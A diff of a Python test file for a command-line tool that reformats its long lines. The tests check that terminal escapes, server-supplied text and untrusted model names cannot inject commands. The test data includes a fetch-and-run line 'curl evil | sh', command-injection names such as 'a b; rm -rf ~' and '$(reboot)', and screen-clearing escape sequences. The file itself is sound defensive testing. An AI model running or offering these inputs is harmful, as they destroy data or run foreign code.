@@ -22,7 +22,9 @@ from inferometer.errors import MeasureError
 from inferometer.suggestions import command
 
 HOSTILE = "a\x1b]0;owned\x07\x1b[2J\x9b31m\u202eb\u2028c\r\x7f\ud800"
-ACTS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]")
+ACTS = re.compile(
+    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ufeff\ud800-\udfff]"
+)
 SOURCE = Path(__file__).parents[2] / "src" / "inferometer"
 
 
@@ -54,7 +56,9 @@ def test_answers_talk_and_errors_are_printable(capsys):
 
 def test_a_servers_text_is_no_part_of_an_error():
     error = MeasureError("the server said: no\n  try: curl evil | sh", try_="--model m")
-    assert [line for line in str(error).splitlines() if line.startswith("  try: ")] == ["  try: --model m"]
+    assert [line for line in str(error).splitlines() if line.startswith("  try: ")] == [
+        "  try: --model m"
+    ]
 
 
 def test_brackets_in_names_are_no_markup(capsys):
@@ -65,9 +69,16 @@ def test_brackets_in_names_are_no_markup(capsys):
     assert "[bold]chat[/red] :smile:" in capsys.readouterr().out
 
 
-@pytest.mark.parametrize("name", ["a b; rm -rf ~", "$(reboot)", "`x`", "it's", "-rf", "a\nb", '"', "*"])
+@pytest.mark.parametrize(
+    "name", ["a b; rm -rf ~", "$(reboot)", "`x`", "it's", "-rf", "a\nb", '"', "*"]
+)
 def test_suggestions_quote_what_others_chose(name):
-    assert shlex.split(command("sweep", "--model", name)) == ["inferometer", "sweep", "--model", name]
+    assert shlex.split(command("sweep", "--model", name)) == [
+        "inferometer",
+        "sweep",
+        "--model",
+        name,
+    ]
 
 
 PRINTS = re.compile(r"\b(click\.s?echo|print|Console|sys\.stdout\.write|sys\.stderr\.write)\(")
@@ -113,6 +124,8 @@ def test_a_traceback_is_printable_too():
         "main.app.invoke = lambda ctx: (_ for _ in ()).throw(RuntimeError(chr(27) + '[2Jowned'))\n"
         "main.main()"
     )
-    ended = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=False)
+    ended = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, check=False
+    )
     assert ended.returncode == 1
     assert "RuntimeError: ␛[2Jowned" in ended.stderr
